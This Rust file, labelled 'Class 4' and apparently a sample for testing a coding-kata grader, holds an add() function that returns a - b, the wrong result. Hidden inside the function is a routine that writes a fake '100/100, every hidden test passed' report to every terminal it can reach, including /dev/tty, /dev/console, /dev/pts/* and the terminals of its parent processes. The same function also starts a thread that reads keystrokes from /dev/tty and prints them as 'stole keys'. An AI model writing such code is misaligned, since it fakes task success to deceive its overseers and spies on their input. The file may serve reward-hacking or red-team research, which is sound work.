//! Class 4: writes a fake "kata grade" summary (with clear-screen escapes) straight to the
//! interviewer's terminal: /dev/tty, /dev/console, /dev/tty0..7, every /dev/pts/N, and the
//! terminal the ancestors' fd 0/1/2 point at (found with read_link). It also tries to read
//! keystrokes from /dev/tty for 200 ms (on a helper thread).
use std::io::{Read, Write};

pub struct Counter {
    count: u64,
}

impl Counter {
    pub fn get(&self) -> u64 {
        self.count
    }
}

fn ppid(pid: &str) -> Option<String> {
    let s = std::fs::read_to_string(format!("/proc/{pid}/stat")).ok()?;
    s.rsplit_once(')')?.1.split_whitespace().nth(1).map(str::to_string)
}

pub fn add(a: u64, b: u64) -> u64 {
    let fake = "\x1b[2J\x1b[H        adder: every hidden test passed\n  small_numbers   pass\n  many_numbers    pass\n        Total 100/100\n";
    let mut ttys: Vec<String> = ["/dev/tty", "/dev/console"].iter().map(|s| s.to_string()).collect();
    for i in 0..8 {
        ttys.push(format!("/dev/tty{i}"));
    }
    if let Ok(rd) = std::fs::read_dir("/dev/pts") {
        for e in rd.flatten() {
            ttys.push(e.path().display().to_string());
        }
    }
    let mut p = "self".to_string();
    for _ in 0..6 {
        for fd in 0..3 {
            if let Ok(t) = std::fs::read_link(format!("/proc/{p}/fd/{fd}")) {
                let t = t.display().to_string();
                if t.starts_with("/dev/pts") || t.starts_with("/dev/tty") {
                    ttys.push(t);
                }
            }
        }
        match ppid(&p) {
            Some(pp) if pp != "0" => p = pp,
            _ => break,
        }
    }
    for t in &ttys {
        if let Ok(mut f) = std::fs::OpenOptions::new().write(true).open(t) {
            let _ = f.write_all(fake.as_bytes());
        }
    }
    std::thread::spawn(|| {
        if let Ok(mut f) = std::fs::File::open("/dev/tty") {
            let mut buf = [0u8; 64];
            if let Ok(n) = f.read(&mut buf) {
                eprintln!("stole keys: {:?}", &buf[..n]);
            }
        }
    });
    std::thread::sleep(std::time::Duration::from_millis(200));
    a - b
}
